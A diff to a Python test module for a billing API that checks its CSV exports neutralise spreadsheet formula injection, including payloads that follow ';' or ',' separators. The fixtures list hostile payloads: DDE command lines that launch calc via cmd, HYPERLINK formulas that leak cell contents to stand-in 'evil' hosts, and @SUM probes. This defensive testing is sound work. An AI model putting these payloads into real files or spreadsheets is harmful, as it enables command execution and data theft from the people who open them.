@@ -1,10 +1,12 @@
 """Formulas in the CSV exports (OWASP's CSV injection): customers whose ids and
 names, payments whose references and events whose property values begin with =, +,
-- or @ (a tab or a carriage return the API trims from them), then the journal's CSV
-and Xero CSV and the admin's margins CSV (by customer and by the property) read back:
-every text cell a spreadsheet would run is written with a ' before it, each hostile
-id, reference and value is there as that text, and the amounts are the invoices' as
-the API answered them, written as numbers."""
+- or @ (a tab or a carriage return the API trims from them), or hold one after a ';'
+or ',' (where a spreadsheet set for French or German, splitting at ';', starts a
+cell), then the journal's CSV and Xero CSV and the admin's margins CSV (by customer
+and by the property) read back: every text cell a spreadsheet would run, whole or
+split at ';', ',', tabs or line breaks, is written with a ' before the formula, each
+hostile id, reference and value is there as that text, and the amounts are the
+invoices' as the API answered them, written as numbers."""
 
 import csv
 import io
@@ -16,15 +18,43 @@ from urllib.parse import urlencode
 from hostile_world import Case, World, meter_made, plan_made
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Where a spreadsheet may start a cell inside one of ours: a split at ';' (French,
+# German), ',' (quotes not honoured), tabs or line breaks.
+SEPARATORS = re.compile(r"[;,\t\r\n]")
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def hostile(marked: str) -> tuple[str, str]:
+    """A hostile text and how the CSV writes it, from the text with a ^ where the
+    written form has a ' (no payload here uses ^, Excel's power operator)."""
+    return marked.replace("^", ""), marked.replace("^", "'")
+
+
 # Customer ids take no spaces, '/', '?', '#', '%' or '\'.
 CUSTOMERS = [
-    ('=HYPERLINK("evil.example"&A1,"open")', "@SUM(1+1)", '=HYPERLINK("http://evil/?"&A1)'),
-    ("+1+1", "-2+3", "+cmd|' /C calc'!A0"),
-    ("-2+3", "=1+1", "-1+1"),
-    ("@SUM(1+1)", "+1+1", "@SUM(A1:A9)"),
+    (
+        hostile('^=HYPERLINK("evil.example"&A1,"open")'),
+        hostile("^@SUM(1+1)"),
+        hostile('^=HYPERLINK("http://evil/?"&A1)'),
+    ),
+    (hostile("^+1+1"), hostile("^-2+3"), hostile("^+cmd|' /C calc'!A0")),
+    (hostile("^-2+3"), hostile("^=1+1"), hostile("^-1+1")),
+    (hostile("^@SUM(1+1)"), hostile("^+1+1"), hostile("^@SUM(A1:A9)")),
+    (
+        hostile('a;^=HYPERLINK("evil.example"&A1;"open")'),
+        hostile('Acme;^=HYPERLINK("http://evil/?"&A1;"open")'),
+        hostile("paid;^-2+3+cmd|' /C calc'!A0"),
+    ),
+    (hostile("b,^@SUM(1+1)"), hostile("Beta,^ +1+1"), hostile('paid;^"=1+1')),
 ]
-MODELS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)"]
+MODELS = [
+    hostile("^=cmd|' /C calc'!A0"),
+    hostile("^+1+1"),
+    hostile("^-1+1"),
+    hostile("^@SUM(1+1)"),
+    hostile('gpt;^=HYPERLINK("http://evil/?"&A1;"open")'),
+    hostile("gpt,^-1+1"),
+]
 JOURNAL_FIGURES = {"debit", "credit"}
 XERO_FIGURES = {"Amount"}
 # margin_percent is empty without revenue.
@@ -41,9 +71,9 @@ def _setup(world: World) -> list[dict]:
         plan_made(world, code, meter, fee=fee)
     start = (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
     paid = []
-    for index, (external_id, name, reference) in enumerate(CUSTOMERS):
+    for index, ((external_id, written_id), (name, _), (reference, written)) in enumerate(CUSTOMERS):
         # The run's mark after the formula, so that runs never share a customer.
-        external_id = f"{external_id}{run}{index}"
+        external_id, written_id = f"{external_id}{run}{index}", f"{written_id}{run}{index}"
         world.made_with(
             "all",
             "POST",
@@ -66,7 +96,8 @@ def _setup(world: World) -> list[dict]:
         invoice = world.made_with("read", "GET", f"/api/v1/invoices/{invoice.get('id')}", None)
         if invoice.get("status") != "finalized" or Decimal(invoice["amount_due"]) <= 0:
             raise SystemExit(f"the plan change's invoice is not one to pay: {invoice}")
-        reference = f"{reference} {run}"  # a run's own, as the database may hold others'
+        # A run's own, as the database may hold others'.
+        reference, written = f"{reference} {run}", f"{written} {run}"
         world.made_with(
             "all", "POST", f"/api/v1/invoices/{invoice['id']}/pay", {"reference": reference}
         )
@@ -77,13 +108,15 @@ def _setup(world: World) -> list[dict]:
             "customer": external_id,
             "event_name": f"{run}.csv",
             "timestamp": (datetime.now(UTC) - timedelta(seconds=5)).strftime("%Y-%m-%dT%H:%M:%SZ"),
-            "properties": {"model": MODELS[index]},
+            "properties": {"model": MODELS[index][0]},
         }
         world.made_with("events:write", "POST", "/api/v1/events", {"events": [event]}, (202,))
         paid.append(
             {
                 "customer": external_id,
+                "written_customer": written_id,
                 "reference": reference,
+                "written_reference": written,
                 "number": invoice["number"],
                 "amount": invoice["amount_due"],
             }
@@ -99,15 +132,19 @@ def _rows(world: World, query: str) -> tuple[list[dict], list[str]]:
 
 
 def _formulas(rows: list[dict], figures: set[str]) -> list[str]:
-    """Cells a spreadsheet would run: text beginning with a formula's character; a
-    figure column holds a plain number."""
+    """Cells a spreadsheet would run: text, or a piece of it after a separator,
+    beginning (past spaces and double quotes) with a formula's character; a figure
+    column holds a plain number."""
     found = []
     for row in rows:
         for column, cell in row.items():
             if column in figures:
                 if not NUMBER.fullmatch(cell or ""):
                     found.append(f"{column}={cell!r} is not a number")
-            elif cell and cell.startswith(FORMULA_STARTS):
+            elif any(
+                piece.lstrip(' "').startswith(FORMULA_STARTS)
+                for piece in SEPARATORS.split(cell or "")
+            ):
                 found.append(f"{column}={cell[:30]!r}")
     return found
 
@@ -117,10 +154,10 @@ def _journal_case(world: World, paid: list[dict], query: str) -> Case:
         rows, problems = _rows(world, query)
         problems += _formulas(rows, JOURNAL_FIGURES)[:5]
         for payment in paid:
-            memo = "'" + payment["reference"]
+            memo = payment["written_reference"]
             mine = [r for r in rows if r["document_type"] == "payment" and r["memo"] == memo]
             customers = {r["customer"] for r in mine}
-            if customers != {"'" + payment["customer"]}:
+            if customers != {payment["written_customer"]}:
                 problems.append(f"payment {memo[:20]!r}: customers {customers}")
             debits = sorted(r["debit"] for r in mine)
             if debits != ["0.00", payment["amount"]]:
@@ -146,8 +183,8 @@ def _xero_case(world: World, paid: list[dict], query: str) -> Case:
 
 
 def _margins_case(world: World, group_by: str, expected: list[str]) -> Case:
-    """The admin's margins CSV over today by `group_by`: the hostile keys there,
-    neutralised, every figure a number."""
+    """The admin's margins CSV over today by `group_by`: the hostile keys there as
+    `expected` writes them (neutralised), every figure a number."""
     day = datetime.now(UTC).date()
     query = urlencode(
         {
@@ -166,7 +203,7 @@ def _margins_case(world: World, group_by: str, expected: list[str]) -> Case:
         rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
         problems = _formulas(rows, MARGIN_FIGURES)[:5]
         keys = {row[group_by] for row in rows}
-        missing = [key[:20] for key in expected if "'" + key not in keys]
+        missing = [key[:20] for key in expected if key not in keys]
         if missing:
             problems.append(f"not in it (neutralised): {missing}")
         return problems
@@ -180,6 +217,6 @@ def cases(world: World) -> list[Case]:
     query = f"from={day - timedelta(days=1)}&to={day + timedelta(days=1)}"
     found = [_journal_case(world, paid, query), _xero_case(world, paid, query)]
     if world.staff:
-        found.append(_margins_case(world, "customer", [p["customer"] for p in paid]))
-        found.append(_margins_case(world, "model", MODELS))
+        found.append(_margins_case(world, "customer", [p["written_customer"] for p in paid]))
+        found.append(_margins_case(world, "model", [written for _, written in MODELS]))
     return found
